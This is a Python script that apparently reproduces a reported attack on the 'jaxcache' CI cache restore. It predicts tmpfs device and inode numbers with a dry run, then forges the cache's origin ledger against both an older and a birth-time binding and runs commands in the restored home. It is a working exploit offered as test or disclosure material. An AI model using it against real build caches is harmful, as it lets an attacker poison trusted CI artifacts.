"""A CI restore of a home whose origin ledger was forged to name the file it will become.

    unshare -m --propagation private -- python restored_home.py CONFIG.json

Inside a private mount namespace, as root. CONFIG: {"point": a directory to mount on, "cache":
the source cache to restore, "vouch": {entry name: [sha256, size]} (the lines the attacker
writes), "runs": [{"argv": [...], "env": {...}}] (run in the restored home, "{home}" replaced)}.

The attacker's recipe, as the report found it: a fresh tmpfs numbers its device and inodes the
same way every time, so one dry-run extraction of the tarball tells which device and inode the
ledger will get. Then one tarball per forged header (the old binding: device and inode; the
new one: device, inode and the birth time the dry run saw), each extracted into a fresh tmpfs
like a CI runner's, and the runs made there. Prints one JSON line: per header, whether the
device and inode came out as predicted, and each run's exit code and output.
"""

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile

LEDGER = "home/state/jaxcache/origin.ledger"


def tarball(cache: str, ledger: bytes) -> bytes:
    """home/cache (the restored cache) and home/state/jaxcache/origin.ledger, as a CI cache
    holds them (directories 0700, files 0600, owned by the runner: root here)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for d in ("home", "home/state", "home/state/jaxcache", "home/cache"):
            info = tarfile.TarInfo(d)
            info.type, info.mode = tarfile.DIRTYPE, 0o700
            t.addfile(info)
        info = tarfile.TarInfo(LEDGER)
        info.size, info.mode = len(ledger), 0o600
        t.addfile(info, io.BytesIO(ledger))
        for name in sorted(os.listdir(cache)):
            with open(os.path.join(cache, name), "rb") as f:
                data = f.read()
            info = tarfile.TarInfo(f"home/cache/{name}")
            info.size, info.mode = len(data), 0o600
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def restore(point: str, archive: bytes) -> os.stat_result:
    """A fresh tmpfs at `point` (as a new runner's), the tarball extracted into it by tar."""
    subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0700", "none", point], check=True)
    subprocess.run(["tar", "-C", point, "-xf", "-"], input=archive, check=True)
    return os.stat(os.path.join(point, LEDGER))


def main() -> None:
    with open(sys.argv[1], encoding="utf-8") as f:
        cfg = json.load(f)
    point = cfg["point"]
    sys.path.insert(0, cfg["src"])
    from jaxcache.trust.provenance import ledger_file

    try:
        from jaxcache.trust.provenance import birth as birthmod
    except ImportError:  # a jaxcache before the birth-time binding: the old attack alone
        birthmod = None

    lines = b"".join(
        ledger_file.line(ledger_file.Written(name, digest, size, (0, 0, 0, 0), 1.0, "/"))
        for name, (digest, size) in cfg["vouch"].items())
    forged = {  # each from what the dry run saw
        "device and inode": lambda st, born: f"0\tledger\t{st.st_dev}\t{st.st_ino}\n",
        "device, inode and birth":
            lambda st, born: f"0\tledger\t2\t{st.st_dev}\t{st.st_ino}\t{born}\n"}
    out = {}
    for what, head_of in forged.items():
        for _ in range(5):  # another mount made meanwhile (a parallel test) takes the device
            # the dry run: which device, inode and birth time will the ledger have?
            dry = restore(point, tarball(cfg["cache"], b"0\tledger\t0\t0\n" + lines))
            born = birthmod.of_path(os.path.join(point, LEDGER)) if birthmod else 0
            subprocess.run(["umount", point], check=True)
            head = head_of(dry, born).encode()
            st = restore(point, tarball(cfg["cache"], head + lines))
            if (st.st_dev, st.st_ino) == (dry.st_dev, dry.st_ino):
                break
            subprocess.run(["umount", point], check=True)
        home = os.path.join(point, "home")
        runs = []
        for run in cfg["runs"]:
            env = {k: v.replace("{home}", home) for k, v in run["env"].items()}
            argv = [a.replace("{home}", home) for a in run["argv"]]
            p = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=600)
            runs.append({"rc": p.returncode, "stdout": p.stdout, "stderr": p.stderr})
        out[what] = {"predicted": (st.st_dev, st.st_ino) == (dry.st_dev, dry.st_ino),
                     "ledger_sha256": hashlib.sha256(head + lines).hexdigest(), "runs": runs}
        subprocess.run(["umount", point], check=True)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
